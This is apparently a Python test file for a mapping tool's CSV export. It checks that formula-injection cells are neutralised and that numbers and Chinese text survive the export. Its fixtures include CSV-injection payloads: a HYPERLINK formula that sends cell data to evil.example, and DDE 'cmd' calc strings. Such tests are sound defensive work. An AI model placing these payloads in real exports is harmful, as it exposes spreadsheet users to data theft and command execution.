"""sites.csv and records.csv are safe to open in a spreadsheet: formula cells neutralised (OWASP), numbers kept as
numbers, a UTF-8 byte-order mark so Excel reads Chinese names; the GeoJSON keeps raw values; --csv-raw for pipelines."""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from facilitymap import export
from facilitymap.builder import build
from facilitymap.cli import main

from tiny_map import csv_bytes, write_source, write_spec

HOSTILE = {
    "1": '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "2": "+cmd|' /C calc'!A0",
    "3": "@SUM(1+1)",
    "4": "-2+3+cmd|' /C calc'!A0",
    "5": "\t=1+1",  # the reader strips the tab: the cell must still be neutralised
    "6": "\r=1+1",
    "7": "新疆喀什地区疏附县看守所",
    "8": "Plain name, with comma",
}


@pytest.mark.parametrize("text, out", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-12.5", "-12.5"), ("+3", "+3"), ("-1e5", "-1e5"), ("a=1", "a=1"), ("", ""),
    ("名字", "名字"), ("'=1", "'=1"),
])
def test_neutralise(text, out):
    assert export.neutralise(text) == out


def test_write_csv_keeps_numbers_and_marks_utf8(tmp_path):
    rows = [{"name": "=1+1", "lon": -80.5, "lat": 41.0, "n": 3, "ok": True, "none": None, "zh": "疏附县"}]
    path = export.write_csv(rows, tmp_path / "x.csv")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    text = data.decode("utf-8-sig")
    assert text.split("\r\n")[1] == "'=1+1,-80.5,41,3,true,,疏附县"  # -80.5 is a number, not "'-80.5"
    raw = export.write_csv(rows, tmp_path / "raw.csv", raw=True).read_bytes().decode("utf-8-sig")
    assert raw.split("\r\n")[1] == "=1+1,-80.5,41,3,true,,疏附县"


def _build(tmp_path: Path, *args: str) -> Path:
    sources, maps = tmp_path / "sources", tmp_path / "maps"
    rows = [[rid, name, 41.0 + int(rid) / 100, -80.5 + int(rid) / 100] for rid, name in HOSTILE.items()]
    rows.append(["=9", "Id is a formula", 41.5, 80.5])
    write_source(sources, "hostile", csv_bytes(["id", "name", "lat", "lon"], rows))
    write_spec(maps, "h", ["hostile"])
    res = CliRunner().invoke(main, ["build", "h", "--sources", str(sources), "--maps", str(maps),
                                    "--basemap", "none", *args])
    assert res.exit_code == 0, res.output
    return maps / "h"


def _cells(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return list(csv.DictReader(fh))


def test_built_csvs_are_safe_and_round_trip(tmp_path):
    out = _build(tmp_path)
    for name in ("sites.csv", "records.csv"):
        data = (out / name).read_bytes()
        assert data.startswith(b"\xef\xbb\xbf"), name
        rows = _cells(out / name)
        for row in rows:
            for col, cell in row.items():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, col, cell)
                if cell.startswith("-"):
                    float(cell)  # only plain numbers may start with "-"
        by_name = {r["name"] for r in rows}
        assert "'" + HOSTILE["1"] in by_name and "'+cmd|' /C calc'!A0" in by_name and "'@SUM(1+1)" in by_name
        assert "'=1+1" in by_name  # "\t=1+1" stripped by the reader, still neutralised
        assert HOSTILE["7"] in by_name and HOSTILE["8"] in by_name  # Chinese intact, plain text untouched
        # pandas reads the same file with the mark: the first column is named cleanly, longitudes are numbers
        df = pd.read_csv(out / name, encoding="utf-8", keep_default_na=False)
        assert list(df.columns) == list(rows[0].keys())
        assert df["lon"].dtype.kind == "f" and (df["lon"] < 0).sum() == len(HOSTILE)
        assert set(df["name"]) == by_name
    records = _cells(out / "records.csv")
    assert {r["record_id"] for r in records} >= {"'=9", "1"}
    # the GeoJSON keeps every value as the source gives it (after the reader's trimming)
    fc = json.loads((out / "sites.geojson").read_text("utf-8"))
    names = {f["properties"]["name"] for f in fc["features"]}
    assert HOSTILE["1"] in names and "=1+1" in names and HOSTILE["7"] in names


def test_csv_raw_keeps_values_for_pipelines(tmp_path):
    out = _build(tmp_path, "--csv-raw")
    names = {r["name"] for r in _cells(out / "sites.csv")}
    assert HOSTILE["1"] in names and "@SUM(1+1)" in names and "=1+1" in names


def test_csv_raw_from_the_spec(tmp_path):
    sources, maps = tmp_path / "sources", tmp_path / "maps"
    write_source(sources, "s", csv_bytes(["id", "name", "lat", "lon"], [[1, "=1+1", 41, 80]]))
    write_spec(maps, "m", ["s"], "csv_raw: true\n")
    build("m", sources_dir=sources, maps_dir=maps, basemap="none")
    assert _cells(maps / "m" / "sites.csv")[0]["name"] == "=1+1"
    write_spec(maps, "m", ["s"], "csv_raw: false\n")
    build("m", sources_dir=sources, maps_dir=maps, basemap="none")
    assert _cells(maps / "m" / "sites.csv")[0]["name"] == "'=1+1"


def test_line_breaks_inside_values_round_trip(tmp_path):
    rows = [{"a": "one\rtwo", "b": "three\nfour", "c": "x\r\ny"}, {"a": "z", "b": 1, "c": None}]
    path = export.write_csv(rows, tmp_path / "x.csv", raw=True)
    with open(path, newline="", encoding="utf-8-sig") as fh:
        back = list(csv.DictReader(fh))
    assert back == [{"a": "one\rtwo", "b": "three\nfour", "c": "x\r\ny"}, {"a": "z", "b": "1", "c": ""}]
    assert pd.read_csv(path, keep_default_na=False)["a"].tolist() == ["one\rtwo", "z"]
